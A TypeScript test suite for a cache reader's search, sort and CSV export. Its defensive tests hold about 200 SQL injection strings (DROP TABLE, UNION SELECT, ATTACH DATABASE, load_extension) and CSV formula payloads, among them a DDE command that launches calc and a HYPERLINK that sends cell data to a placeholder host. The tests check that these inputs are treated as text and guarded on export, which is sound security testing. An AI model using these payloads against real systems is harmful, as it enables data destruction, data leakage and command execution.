import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { activityIdSchema, jobIdSchema } from '../../shared/ids.ts';
import { foldForSearch } from '../../shared/search-fold.ts';
import { cachePath, type OpenedCache, openCache } from '../../store/cache/cache.ts';
import { RunLedger } from '../../store/cache/ledger.ts';
import { CacheReader } from '../../store/cache/reader.ts';
import { ensureTable } from '../../store/cache/table.ts';
import { RowWriter } from '../../store/cache/writer.ts';
import { inTransaction } from '../../store/database.ts';
import { markSuspect } from '../../store/startup-check.ts';
import { writeCsv } from './csv-file.ts';

const jobId = jobIdSchema.parse('testreader1');
const runId = activityIdSchema.parse('testreaderrun1');
const columns = [
  { name: 'Id', type: 'text' as const },
  { name: 'Name', type: 'text' as const },
  { name: 'Size', type: 'integer' as const },
  { name: 'Active', type: 'boolean' as const },
];
const thread = fileURLToPath(new URL('./reader-thread.ts', import.meta.url));

let folder: string;
let cache: OpenedCache;
let reader: CacheReader;
let ledger: RunLedger;

function write(rows: [string, string | null, number | null, number | null][]): void {
  const writer = new RowWriter(cache.db, jobId, { columns, keyIndex: 0 }, true);
  inTransaction(cache.db, () => {
    const outcomes = rows.map((row) => writer.write(row) % 4);
    ledger.addRows(outcomes.filter((outcome) => outcome === 1).length, 0);
  });
}

const unexpected = (): never => {
  throw new Error('There is no damage in this test.');
};

beforeEach(async () => {
  folder = mkdtempSync(join(tmpdir(), 'pb-reader-'));
  cache = await openCache(folder, () => undefined);
  ensureTable(cache.db, jobId, columns, 'Id');
  ledger = new RunLedger(cache.db, jobId, runId);
  reader = new CacheReader({ file: cachePath(cache.profile), thread, onDamage: unexpected });
});
afterEach(async () => {
  await reader.close();
  cache.close();
  rmSync(folder, { recursive: true, force: true });
});

const names = async (search: string, sort: { column: string; descending: boolean } | null = null): Promise<unknown[]> =>
  (await reader.rows({ jobId, offset: 0, limit: 100, search, sort })).rows.map((row) => row[1]);

describe('the tables', () => {
  it('are listed with kept counts, and are none before the worker has run', async () => {
    write([
      ['1', 'Ada', 1, 1],
      ['2', 'Bo', 2, 0],
    ]);
    expect(reader.tables()).toMatchObject([{ jobId, rows: 2, gone: 0, columns, keyColumn: 'Id' }]);
    const none = new CacheReader({ file: join(folder, 'nothing.db'), thread, onDamage: unexpected });
    expect(none.tables()).toEqual([]);
    expect(await none.rows({ jobId, offset: 0, limit: 10, search: '', sort: null })).toMatchObject({ total: 0 });
    expect(existsSync(join(folder, 'nothing.db'))).toBe(false);
  });
});

describe('rows', () => {
  it('come in pages, searched, sorted, and without those that are gone', async () => {
    write(Array.from({ length: 25 }, (_, at) => [`k${at}`, `Name ${String(at).padStart(2, '0')}`, 25 - at, at % 2]));
    cache.db.prepare(`UPDATE "rows_${jobId}" SET _gone = 1 WHERE Id = 'k3'`).run();
    const page = await reader.rows({ jobId, offset: 20, limit: 10, search: '', sort: null });
    expect(page).toMatchObject({ total: 24 });
    expect(page.rows.length).toBe(4);
    expect(await names('name 1')).toEqual(Array.from({ length: 10 }, (_, at) => `Name 1${at}`));
    expect((await names('', { column: 'Size', descending: false }))[0]).toBe('Name 24');
    expect((await names('', { column: 'Name', descending: true }))[0]).toBe('Name 24');
    expect(await names('22')).toEqual(['Name 22']);
  });

  it('are found whatever the case, by Unicode, in cells of every script and of any mixture', async () => {
    const cells = ['Ägypten', 'МОСКВА', 'ΟΔΟΣ', 'Straße', 'İzmir', 'Diyarbakır', 'plain', 'nul\0Ärger', 'naïve CAFÉ'];
    write(cells.map((name, at) => [`k${at}`, name, null, null]));
    const typed: readonly [string, string][] = [
      ['ägypten', 'Ägypten'],
      ['AGYPTEN', 'Ägypten'],
      ['москва', 'МОСКВА'],
      ['οδος', 'ΟΔΟΣ'],
      ['οδοσ', 'ΟΔΟΣ'],
      ['STRASSE', 'Straße'],
      ['straße', 'Straße'],
      ['IZMIR', 'İzmir'],
      ['diyarbakir', 'Diyarbakır'],
      ['PLAIN', 'plain'],
      ['ärger', 'nul\0Ärger'],
      ['NAIVE café', 'naïve CAFÉ'],
    ];
    for (const [text, cell] of typed) expect(await names(text), text).toEqual([cell]);
    expect(await names('plainß')).toEqual([]);
  });

  it('take wildcards, quotes and SQL for what they are: text', async () => {
    const odd = ['100%', '100x', 'a_b', 'axb', 'back\\slash', `it's "quoted"`, `'; DROP TABLE runs; --`, '*', 'ÄÖ'];
    write(odd.map((name, at) => [`k${at}`, name, null, null]));
    for (const name of odd) expect(await names(name)).toEqual([name]);
    expect(await names('%')).toEqual(['100%']);
    expect(await names('', { column: '"Name"; DROP TABLE runs', descending: true })).toHaveLength(odd.length);
    expect(cache.db.prepare('SELECT count(*) FROM runs').pluck().get()).toBe(0);
  });

  it('are the same after 200 attempts to break out of a search or a sort', async () => {
    const kept: [string, string, number, number][] = [
      ['1', 'Ada', 1, 1],
      ['2', 'Bo', 2, 0],
    ];
    write(kept);
    const heads = [
      '',
      "'",
      '"',
      '`',
      '\\',
      '%',
      "')",
      '"]',
      '--',
      '\0',
      'Ada',
      'Name',
      '_id',
      '@pattern',
      '? ',
      ':x',
      '\u02bc',
      '＇',
      '1',
      'NULL',
    ];
    const tails = [
      ' OR 1=1 --',
      ' UNION SELECT name, sql, 1, 1 FROM sqlite_master --',
      '; DROP TABLE runs; --',
      "; ATTACH DATABASE '/tmp/x' AS x; --",
      ' OR _gone = 1) --',
      ' COLLATE NOCASE; PRAGMA writable_schema = ON; --',
      "' ESCAPE '%' OR '1' LIKE '1",
      ' LIMIT 0 OFFSET 99999; --',
      ") OR load_extension('x') --",
      ' IN (SELECT 1) /*',
    ];
    const attempts = heads.flatMap((head) => tails.map((tail) => head + tail));
    expect(new Set(attempts).size).toBe(200);
    for (const text of attempts) {
      expect(await names(text), text).toEqual([]);
      expect(await names('', { column: text, descending: true }), text).toHaveLength(2);
      const named = `${text}" DESC, "Name`;
      expect(await names('a', { column: named, descending: false }), text).toEqual(['Ada']);
    }
    expect(cache.db.prepare('SELECT count(*) FROM runs').pluck().get()).toBe(0);
    expect(cache.db.pragma('integrity_check', { simple: true })).toBe('ok');
    expect((await reader.rows({ jobId, offset: 0, limit: 10, search: '', sort: null })).rows).toEqual(kept);
  });

  it('never answer with rows that do not hold the text, whatever is typed', async () => {
    write(Array.from({ length: 50 }, (_, at) => [`k${at}`, `x${'%_\\\'"'[at % 5]}${at}`, null, null]));
    await fc.assert(
      fc.asyncProperty(fc.string({ maxLength: 6 }), async (text) => {
        const { rows } = await reader.rows({ jobId, offset: 0, limit: 100, search: text, sort: null });
        const wanted = foldForSearch(text.trim());
        for (const row of rows) expect(row.some((cell) => foldForSearch(String(cell)).includes(wanted))).toBe(true);
      }),
      { numRuns: 60 },
    );
  });

  it('are seen as they are now, while the worker writes', async () => {
    write([['1', 'Ada', 1, 1]]);
    expect(await names('ada')).toEqual(['Ada']);
    write([['2', 'Ada two', 1, 1]]);
    await expect.poll(() => names('ada')).toEqual(['Ada', 'Ada two']);
  });
});

describe('rejected records', () => {
  it('are paged and exported', async () => {
    inTransaction(cache.db, () => {
      ledger.beginRun(1);
      ledger.reject(
        0,
        Array.from({ length: 30 }, (_, at) => ({ key: `k${at}`, reason: '=bad', by: 'mapping' as const })),
      );
    });
    expect(reader.rejected(runId, { offset: 28, limit: 10 })).toEqual({
      total: 30,
      records: [28, 29].map((at) => ({ key: `k${at}`, reason: '=bad', by: 'mapping' })),
    });
    const path = join(folder, 'rejected.csv');
    expect(await reader.exportRejected(runId, path)).toBe(30);
    expect(readFileSync(path, 'utf8')).toContain("k0,'=bad,mapping");
  });
});

describe('CSV export', () => {
  const read = (path: string): string[][] => parse(readFileSync(path), { bom: true, relax_column_count: true });

  it('has the header and every row that the search finds, and replaces nothing before it is whole', async () => {
    write([
      ['1', 'Ada', -1, 1],
      ['2', 'a "quoted", b', null, 0],
      ['3', 'line\nbreak', 3, null],
    ]);
    const path = join(folder, 'rows.csv');
    expect(await reader.exportRows({ jobId, search: '', sort: null }, path)).toBe(3);
    expect(read(path)).toEqual([
      ['Id', 'Name', 'Size', 'Active'],
      ['1', 'Ada', '-1', 'true'],
      ['2', 'a "quoted", b', '', 'false'],
      ['3', 'line\nbreak', '3', ''],
    ]);
    await reader.exportRows({ jobId, search: '', sort: { column: 'Name', descending: true } }, path);
    expect(read(path).map(([id]) => id)).toEqual(['Id', '3', '1', '2']);
    expect(await reader.exportRows({ jobId, search: 'ada', sort: null }, path)).toBe(1);
    // Without the path: a page must not see it.
    await expect(
      reader.exportRows({ jobId, search: '', sort: null }, join(folder, 'not', 'there.csv')),
    ).rejects.toThrow(/^The file was not written: the folder no longer exists\. Choose another place\.$/);
    mkdirSync(join(folder, 'taken.csv'));
    await expect(reader.exportRows({ jobId, search: '', sort: null }, join(folder, 'taken.csv'))).rejects.toThrow(
      /^The file was not written: a folder with this name exists\. Choose another place\.$/,
    );
    expect(readdirSync(folder).filter((name) => name.endsWith('.part'))).toEqual([]);
  });

  const STARTS_LIKE_A_FORMULA = /^[=+\-@\t\r\n＝＋－＠−﹢﹣﹦﹫]/;
  const starts = [...'=+-@\t\r\n＝＋－＠−﹢﹣﹦﹫'];
  const formulas = starts.flatMap((start) => [
    start,
    `${start}1+1`,
    `${start}cmd|' /C calc'!A0`,
    `${start}HYPERLINK("http://x.test?"&A1,"Open")`,
    `${start}${start}SUM(A1:A9)`,
  ]);

  it(`has no cell that begins like one of ${formulas.length} formulas, in rows and header`, async () => {
    expect(formulas.length).toBeGreaterThanOrEqual(60);
    const path = join(folder, 'formula.csv');
    await writeCsv(path, formulas, [formulas, [...formulas].reverse()]);
    const lines = read(path);
    expect(lines.map(({ length }) => length)).toEqual(Array(3).fill(formulas.length));
    expect(lines.flat().filter((cell) => STARTS_LIKE_A_FORMULA.test(cell))).toEqual([]);
    // Guarded, not changed: what follows the guard is the text.
    expect(lines[1]?.map((cell) => cell.slice(1))).toEqual(formulas);
  });

  it('guards rows and rejected records alike', async () => {
    write(formulas.map((text, at) => [`${text} ${at}`, text, at, null]));
    inTransaction(cache.db, () => {
      ledger.beginRun(1);
      ledger.reject(
        0,
        formulas.map((text) => ({ key: text, reason: text, by: 'mapping' as const })),
      );
    });
    const [rows, rejected] = [join(folder, 'rows.csv'), join(folder, 'rejected.csv')];
    expect(await reader.exportRows({ jobId, search: '', sort: null }, rows)).toBe(formulas.length);
    expect(await reader.exportRejected(runId, rejected)).toBe(formulas.length);
    for (const path of [rows, rejected])
      expect(
        read(path)
          .flat()
          .filter((cell) => STARTS_LIKE_A_FORMULA.test(cell)),
      ).toEqual([]);
  });

  it('gives benign texts and all numbers back exactly', async () => {
    const path = join(folder, 'round.csv');
    const benign = fc
      .string({ unit: 'grapheme', maxLength: 30 })
      .filter((text) => !STARTS_LIKE_A_FORMULA.test(text) && !/^['\ufeff]/.test(text));
    const rows = fc.sample(fc.tuple(benign, fc.double({ noNaN: true, noDefaultInfinity: true })), 10_000);
    await writeCsv(path, ['text', 'number'], rows);
    expect(read(path).slice(1)).toEqual(rows.map(([text, number]) => [text, String(number)]));
  });
});

describe('a damaged file', () => {
  it.each([
    ['a table’s page', 'page'],
    ['its header', 'header'],
  ] as const)('in %s is told, and read again once it was repaired', async (_where, where) => {
    write([['1', 'Ada', 1, 1]]);
    const { profile } = cache;
    const path = cachePath(profile);
    const root = cache.db
      .prepare<[string], number>('SELECT rootpage FROM sqlite_schema WHERE name = ?')
      .pluck()
      .get(`rows_${jobId}`);
    cache.close();
    const bytes = readFileSync(path);
    const pageBytes = bytes.readUInt16BE(16);
    const at = where === 'header' ? 0 : ((root ?? 1) - 1) * pageBytes;
    writeFileSync(path, bytes.fill(0xff, at, at + 100));
    let told = 0;
    const other = new CacheReader({ file: path, thread, onDamage: () => (told += 1) });
    const question = { jobId, offset: 0, limit: 10, search: '', sort: null };
    await expect(other.rows(question)).rejects.toMatchObject({
      code: 'database_damaged',
      message: 'The record cache is damaged. It is being repaired; try again in a moment.',
    });
    expect(told).toBe(1);
    markSuspect(profile, 'cache');
    cache = await openCache(folder, () => undefined);
    expect(cache.notices.join()).toContain('put aside');
    await other.reopen();
    expect(other.tables()).toEqual([]);
    await other.close();
  });
});
